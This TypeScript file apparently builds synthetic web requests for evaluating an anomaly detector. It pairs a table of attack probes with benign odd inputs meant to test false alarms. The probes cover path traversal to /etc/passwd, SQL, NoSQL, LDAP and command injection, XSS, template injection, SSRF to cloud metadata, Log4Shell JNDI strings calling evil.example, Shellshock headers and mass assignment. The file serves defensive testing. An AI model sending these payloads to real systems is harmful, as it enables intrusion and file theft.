/**
 * What the drawn worlds have besides: attacks of other families than those of the public set, and requests that are odd but
 * nobody's attack. Written from what OWASP's testing guide and API top ten name, before anything was measured on them.
 */
import type { Dice, Request } from './anomaly-attacks.ts'

type Change = (one: Request, dice: Dice) => void

const nameOf = ({ p }: Request, { pick }: Dice): string =>
  p.split('?')[1]?.split('=')[0] ?? pick(['q', 'id', 'filter', 'page', 'sort'])

const inQuery =
  (...values: readonly string[]): Change =>
  (one, dice) => {
    one.p = `${one.p.split('?')[0] ?? ''}?${nameOf(one, dice)}=${encodeURIComponent(dice.pick(values))}`
    one.s = dice.pick([200, 400, 400, 422, 500])
  }

const asQuery =
  (...queries: readonly string[]): Change =>
  (one, dice) => {
    one.p = `${one.p.split('?')[0] ?? ''}?${dice.pick(queries)}`
    one.s = dice.pick([200, 400, 400])
  }

const asPath =
  (...paths: readonly string[]): Change =>
  (one, dice) => {
    const [first = ''] = one.p.split('?')[0]?.split('/').slice(1) ?? []
    one.p = dice.pick(paths).replace('{first}', first)
    one.m = 'GET'
    one.s = dice.pick([404, 404, 400, 403])
    one.r = 90
    one.q = 0
  }

const asBody =
  (...bodies: readonly object[]): Change =>
  (one, dice) => {
    one.m = 'POST'
    one.rb = dice.pick(bodies)
    one.q = JSON.stringify(one.rb).length
    one.s = dice.pick([200, 400, 401, 422])
  }

const withHeader =
  (...headers: readonly (readonly [string, string])[]): Change =>
  (one, dice) => {
    const [name, value] = dice.pick(headers)
    one.h = { ...one.h, [name]: value }
  }

/** In place of an id, where the path ends with one. */
const asId =
  (...ids: readonly string[]): Change =>
  (one, dice) => {
    const path = one.p.split('?')[0] ?? ''
    one.p = /\/\d+$/.test(path) ? path.replace(/\d+$/, dice.pick(ids)) : `${path}/${dice.pick(ids)}`
    one.s = dice.pick([400, 404, 404, 500])
    one.r = 90
  }

/** Each made from an ordinary request. */
export const OTHER_STRANGE: Readonly<Record<string, Change>> = {
  traversal: asPath(
    '/{first}/..%2f..%2f..%2fetc%2fpasswd',
    '/{first}/%2e%2e/%2e%2e/%2e%2e/windows/win.ini',
    '/{first}/..%252f..%252f..%252fetc%252fhosts',
    '/{first}/....//....//etc/passwd',
    '/{first}/..;/manager/status',
    '/{first}/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '/static/..%5c..%5cwindows%5csystem32',
  ),
  traversal_parameter: inQuery(
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '/var/www/../../etc/group',
    '....//....//x',
  ),
  sqli_other: inQuery(
    '1 AND SLEEP(5)',
    "admin'--",
    "')) OR (('1'='1",
    "1' UNION/**/ALL/**/SELECT 1,2,3",
    "1' AND 1=(SELECT COUNT(*) FROM users)--",
    '1; EXEC master..xp_dirtree',
    '(select(0)from(select(sleep(5)))v)',
    "x' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))--",
    '1 or 1=1',
  ),
  xss_other: inQuery(
    '"><svg/onload=confirm(1)>',
    '<body onpageshow=alert(1)>',
    "';alert(String.fromCharCode(88))//",
    '<details open ontoggle=prompt(1)>',
    'JaVaScRiPt:alert(1)',
    '<iframe srcdoc="x">',
  ),
  ssti: inQuery(
    '{{7*7}}',
    '${{7*7}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{{config.items()}}',
    '{% import os %}',
    '${T(java.lang.Runtime)}',
  ),
  command_other: inQuery('$(whoami)', '`id`', '| ping -c 1 127.0.0.1', '; sleep 5', '&& cat /etc/passwd', '%0a id'),
  nosql: asQuery(
    'user[$ne]=x&pass[$ne]=x',
    'id[$gt]=',
    'filter[$where]=1',
    'name[$regex]=.*',
    'q=%7B%22%24ne%22%3A1%7D',
  ),
  nosql_body: asBody(
    { user: { $ne: null }, password: { $ne: null } },
    { email: { $gt: '' } },
    { filter: { $where: 'sleep(5000)' } },
    { name: { $regex: '^a' } },
  ),
  pollution: asQuery('__proto__[admin]=1', 'constructor[prototype][x]=1', 'a.__proto__.b=1'),
  ssrf: asQuery(
    'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data',
    'callback=http%3A%2F%2Flocalhost%3A6379%2F',
    'src=http%3A%2F%2F%5B%3A%3A1%5D%2F',
    'img=gopher%3A%2F%2F127.0.0.1%3A25%2F',
    'url=http%3A%2F%2F0x7f000001%2F',
  ),
  redirect: asQuery('next=%2F%2Fevil.example', 'return=https%3A%5C%5Cevil.example', 'redirect=%2F%5Cevil.example'),
  ldap: inQuery('*)(uid=*))(|(uid=*', 'admin)(&)', 'x*)(objectClass=*'),
  crlf: inQuery('x\r\nSet-Cookie: a=b', '\r\nLocation: http://evil.example', 'en\r\n\r\n<html>'),
  serialised: inQuery('O:8:"stdClass":0:{}', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'a:1:{i:0;O:4:"Evil":0:{}}'),
  introspection: (one, dice) => {
    one.m = 'POST'
    one.p = dice.pick(['/graphql', '/api/graphql', '/v1/graphql'])
    one.rb = { query: dice.pick(['{__schema{types{name}}}', 'query IntrospectionQuery{__schema{queryType{name}}}']) }
    one.s = dice.pick([404, 404, 400])
    one.r = 90
  },
  header_attack: withHeader(
    ['x-original-url', '/admin'],
    ['x-rewrite-url', '/admin/users'],
    ['referer', '${jndi:ldap://evil.example/a}'],
    ['x-forwarded-for', '127.0.0.1, ${jndi:dns://x.example}'],
    ['x-api-version', '() { :; }; /bin/id'],
    ['accept-language', "en' OR 1=1--"],
    ['x-forwarded-host', '"><script>alert(1)</script>'],
  ),
  method_override: (one, dice) => {
    one.m = 'POST'
    if (dice.next() < 0.5) one.h = { 'x-http-method-override': dice.pick(['DELETE', 'PUT', 'PATCH']) }
    else one.p = `${one.p.split('?')[0] ?? ''}?_method=${dice.pick(['DELETE', 'PUT'])}`
    one.s = dice.pick([405, 404, 403, 200])
  },
  agent_injection: (one, dice) => {
    one.ua = dice.pick([
      '${jndi:ldap://evil.example/x}',
      "Mozilla/5.0' OR '1'='1",
      '<script>alert(1)</script>',
      '() { :;}; ping x',
    ])
  },
  bad_id: asId('0x1f', '-1', '1e309', 'null', 'undefined', '9'.repeat(400), '1%00', '1%27', 'NaN', '%7B%7D', 'true'),
  huge_body: (one, dice) => {
    one.m = 'POST'
    one.q = Math.round(3e6 * (1 + 4 * dice.next()))
    one.s = dice.pick([413, 400, 201])
  },
  mass_assignment: (one, dice) => {
    if (one.rb === undefined) return asBody({ role: 'admin' })(one, dice)
    one.rb = { ...one.rb, ...dice.pick([{ role: 'admin' }, { isAdmin: true }, { balance: 1e6, verified: true }]) }
    one.s = dice.pick([200, 201, 400])
  },
}

const withText =
  (...texts: readonly string[]): Change =>
  (one, dice) => {
    if (one.p.includes('?')) one.p = `${one.p.split('=')[0] ?? ''}=${encodeURIComponent(dice.pick(texts))}`
    else if (one.rb !== undefined) one.rb = { ...one.rb, note: dice.pick(texts) }
  }

/** Odd, and no attack: each alarm is a false one. */
export const ODD: Readonly<Record<string, Change>> = {
  foreign_names: withText(
    'Łukasz Żółć',
    '東京タワー',
    'Zoë Müller-Lüdenscheidt',
    'Ольга',
    'محمد',
    'Nguyễn Văn A',
    '🙂 lamp 🙂',
  ),
  apostrophes: withText(
    "O'Brien",
    "d'Angelo & sons",
    "rock 'n' roll",
    '12" vinyl',
    "children's books",
    "it's; well, fine",
  ),
  prose_with_sql: withText(
    'how to select a chair from a set',
    'union square and drop in table lamp',
    'please order by phone or update my address where it says home',
    'insert coin into slot -- thanks',
    'sleep (queen size) or bench (mark two)',
    'create table for two, delete the rest',
    'this or that and more',
  ),
  search_operators: withText(
    '"rock" or "pop"',
    "dogs' or cats' beds",
    'cheap; ideal for kids',
    'Q && A',
    'a && b',
    'idle; ls 400',
  ),
  symbols: withText(
    '50% off',
    'C++ & C#',
    'AT&T',
    'a < b and b > c',
    '<3',
    'x|y',
    '$100 (or less)',
    '#1 * best!',
    'R&D; QA',
  ),
  long_text: (one, dice) =>
    withText(
      'I bought this lamp two weeks ago and it works well, but the cable is a little short; could you tell me (roughly) ' +
        "what a longer one costs? My neighbour's has 3 m, and it's fine. Thanks & regards, Ann. ".repeat(
          1 + dice.next() * 4,
        ),
    )(one, dice),
  encoded_ids: withText(
    'eyJpZCI6MTIzLCJkIjoibmV4dCJ9',
    'MTIzNDU2Nzg5MGFiY2RlZg==',
    '3fa85f64-5717-4562-b3fc-2c963f66afa6',
    'a+b/c9==',
  ),
  address: withText('https://shop.example/items?id=3&ref=a', '/home/page', 'docs/readme.md', 'mailto:ann@shop.example'),
  new_version: (one, { pick }) => {
    one.ua = one.ua.replace(/\d+/g, () => pick(['41', '42', '7', '2026', '18']))
  },
  long_agent: (one) => {
    one.ua = `${one.ua} Model/SM-S928B Locale/de_DE Carrier/(none) Build/UP1A.231005.007`
  },
}
